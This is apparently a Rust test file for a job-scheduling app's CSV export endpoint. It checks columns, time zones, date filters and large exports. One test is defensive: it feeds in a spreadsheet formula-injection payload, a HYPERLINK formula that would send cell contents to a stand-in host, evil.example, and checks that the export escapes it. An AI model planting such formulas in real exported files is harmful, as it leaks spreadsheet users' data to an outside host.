//! GET /api/reports/export.csv. The tests read the file with a CSV reader.

use serde_json::{Value, json};

use crate::{
    jobs::world::World,
    support::{Response, on_each_engine},
};

/// Parses the exported CSV file. Returns the headings, and each line as an object with the headings as keys.
fn read(answer: &Response) -> (Vec<String>, Vec<Value>) {
    assert_eq!(answer.status, 200, "{}", answer.text);
    assert_eq!(answer.header("content-type"), "text/csv; charset=utf-8");
    let text = answer
        .text
        .strip_prefix('\u{FEFF}')
        .expect("a byte order mark");
    assert!(text.ends_with("\r\n"), "RFC 4180: CRLF");
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let headings: Vec<String> = reader
        .headers()
        .unwrap()
        .iter()
        .map(str::to_owned)
        .collect();
    let lines = reader.records().map(|line| {
        let line = line.unwrap();
        headings
            .iter()
            .cloned()
            .zip(line.iter().map(Value::from))
            .collect()
    });
    let lines = lines.collect();
    (headings, lines)
}

on_each_engine! {
    async fn the_export_has_every_job_with_readable_values(engine) {
        let world = World::new(engine).await;
        let job = world.book(json!({
            "title": "Fix \"tap\", now", "description": "two\nlines, é", "location": "2 High St", "priority": 4, "status": "completed",
            "startDate": "2026-11-22T13:30:00Z", "endDate": "2026-11-22T15:00:00Z", "completeByDate": "2026-12-01",
            "assignedUserId": world.app.worker_id,
        })).await;
        world.change(&job, json!({"actualStartTime": "2026-11-22T13:00:00Z", "actualFinishTime": "2026-11-22T13:10:00Z"})).await;
        world.change(&job, json!({"archived": 1})).await;
        world.book(json!({"title": "Before", "startDate": "2026-11-22T12:30:00Z"})).await;
        let answer = world.admin.get("/api/reports/export.csv").await;
        assert_eq!(answer.header("content-disposition"), "attachment; filename=\"jobwright-jobs-all.csv\"");
        assert_eq!(answer.header("cache-control"), "no-store");
        let (headings, lines) = read(&answer);
        assert_eq!((headings.len(), lines.len()), (27, 2));
        assert_eq!(lines[0]["Title"], "Before");
        for empty in ["Description", "End", "Complete By", "Assigned To", "Scheduled Minutes", "Actual Start", "Actual Minutes"] {
            assert_eq!(lines[0][empty], "", "{empty}");
        }
        // Times are in the business's time zone, Sydney. rule: business-time
        assert_eq!(lines[1], json!({
            "Title": "Fix \"tap\", now", "Description": "two\nlines, é", "Location": "2 High St", "Client": "Ann Lee",
            "Business Name": "", "Main Contact": "", "Phone": "", "Status": "Completed", "Priority": "Urgent",
            "Start": "2026-11-23 00:30", "End": "2026-11-23 02:00", "Complete By": "2026-12-01",
            "Actual Start": "2026-11-23 00:00", "Actual Finish": "2026-11-23 00:10", "Scheduled Minutes": "90",
            "Actual Minutes": "10", "Assigned To": "Worker Person", "Assigned By": "Admin Person",
            "Created By": "Admin Person", "Created": "2026-11-20 20:00", "Archived": "Yes", "Job ID": job["id"],
            "Workers": "Worker Person", "Visits": "1", "In Tray": "No", "On Hold": "", "On Hold Until": "",
        }));
    }

    /// In the export each job has one line, however many visits and workers it has. rule: reports-export
    async fn the_export_has_visits_workers_and_holds(engine) {
        let world = World::by_worker(engine).await;
        let zoe = world.hire("zoe").await;
        let both = json!([world.app.worker_id, zoe]);
        let days = json!({"days": 3});
        world.book(json!({"title": "Three days", "workerIds": both, "spread": days, "endDate": "2026-11-23T10:00:00Z"})).await;
        world.book(json!({"title": "Held", "unscheduled": true, "startDate": "2026-11-24T09:00:00Z", "holdReason": "Waiting, for tiles", "holdUntil": "2026-12-01"})).await;
        world.book(json!({"title": "Waits", "unscheduled": true, "startDate": "2026-11-25T09:00:00Z", "workerIds": [zoe]})).await;
        let (_, lines) = read(&world.admin.get("/api/reports/export.csv").await);
        let cells = ["Title", "Workers", "Visits", "In Tray", "On Hold", "On Hold Until"];
        let table: Vec<Vec<&str>> = lines.iter().map(|line| cells.iter().map(|cell| line[cell].as_str().unwrap()).collect()).collect();
        assert_eq!(table, [
            ["Three days", "Worker Person, Zoe Person", "3", "No", "", ""],
            ["Held", "", "1", "Yes", "Waiting, for tiles", "2026-12-01"],
            ["Waits", "Zoe Person", "1", "Yes", "", ""],
        ]);
    }

    /// The export's period is two days in the business's time zone, both included. The file name contains these days.
    async fn the_export_has_only_the_jobs_of_the_period(engine) {
        let world = World::new(engine).await;
        for start in ["2026-11-21T12:59:59Z", "2026-11-21T13:00:00Z", "2026-11-22T12:59:59Z", "2026-11-22T13:00:00Z"] {
            world.book(json!({"title": start, "startDate": start})).await;
        }
        for (query, name, expected) in [
            ("from=2026-11-22&to=2026-11-22", "2026-11-22-2026-11-22", 1..3),
            ("from=2026-11-22", "from-2026-11-22", 1..4),
            ("to=2026-11-22", "to-2026-11-22", 0..3),
        ] {
            let answer = world.admin.get(&format!("/api/reports/export.csv?{query}")).await;
            assert_eq!(answer.header("content-disposition"), format!("attachment; filename=\"jobwright-jobs-{name}.csv\""));
            assert_eq!(read(&answer).1.len(), expected.len(), "{query}");
            assert_eq!(read(&answer).1[0]["Start"], ["2026-11-21 23:59", "2026-11-22 00:00"][expected.start.min(1)]);
        }
        let none = world.admin.get("/api/reports/export.csv?to=2020-01-01").await;
        assert_eq!((read(&none).0.len(), read(&none).1.len()), (27, 0), "only the headings");
    }

    /// If a spreadsheet would treat a value as a formula, the value's cell in the export begins with an apostrophe.
    async fn no_cell_of_the_export_is_treated_as_a_formula(engine) {
        let world = World::new(engine).await;
        let attack = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";
        let client = world.admin.post("/api/clients", json!({"name": "@SUM(1+1)", "businessName": "-2+3", "phone": "+61 2 5550 0100"})).await.json;
        world.book(json!({"title": attack, "description": "＝1+1", "location": "a = b", "clientId": client["id"]})).await;
        let (_, lines) = read(&world.admin.get("/api/reports/export.csv").await);
        let expected = [
            ("Title", format!("'{attack}")), ("Description", "'＝1+1".to_owned()), ("Location", "a = b".to_owned()),
            ("Client", "'@SUM(1+1)".to_owned()), ("Business Name", "'-2+3".to_owned()), ("Phone", "'+61 2 5550 0100".to_owned()),
        ];
        for (heading, cell) in expected {
            assert_eq!(lines[0][heading], cell);
        }
        let dangerous = |cell: &Value| cell.as_str().unwrap().starts_with(['=', '+', '-', '@', '\t', '\r']);
        assert!(!lines[0].as_object().unwrap().values().any(dangerous));
    }

    /// The business has more jobs than the server reads in one chunk. Many of the jobs have the same start.
    async fn a_long_export_is_complete_and_sent_in_chunks(engine) {
        let world = World::new(engine).await;
        let job = world.book(json!({})).await;
        let fields = "title, title_sort, search_text, slot_end, status, priority, archived, client_id, user_id, created_at, updated_at, version";
        let id = match engine {
            crate::support::Engine::Sqlite => "randomblob(16)",
            crate::support::Engine::Postgres => "gen_random_uuid()",
        };
        world.app.sql(format!(
            "WITH RECURSIVE n(i) AS (SELECT CAST(1 AS BIGINT) UNION ALL SELECT i + 1 FROM n WHERE i < 3999) \
             INSERT INTO jobs (id, start_at, {fields}) SELECT {id}, start_at - (i % 3) * 1000, {fields} FROM jobs, n"
        )).await;
        let (_, lines) = read(&world.admin.get("/api/reports/export.csv").await);
        let mut ids: Vec<&str> = lines.iter().map(|line| line["Job ID"].as_str().unwrap()).collect();
        ids.sort_unstable();
        ids.dedup();
        assert_eq!((lines.len(), ids.len()), (4000, 4000));
        assert!(ids.contains(&job["id"].as_str().unwrap()));
    }

    /// A visit in the tray has no time. rule: reports-export
    async fn a_job_in_the_tray_has_no_planned_time_in_the_export(engine) {
        let world = World::new(engine).await;
        world.book(json!({
            "title": "Waits", "unscheduled": true, "startDate": "2026-11-24T09:00:00Z", "endDate": "2026-11-24T10:00:00Z",
        })).await;
        let (_, lines) = read(&world.admin.get("/api/reports/export.csv").await);
        let cells = ["Start", "End", "Scheduled Minutes", "In Tray"].map(|name| lines[0][name].clone());
        assert_eq!(cells, ["", "", "", "Yes"]);
    }
}
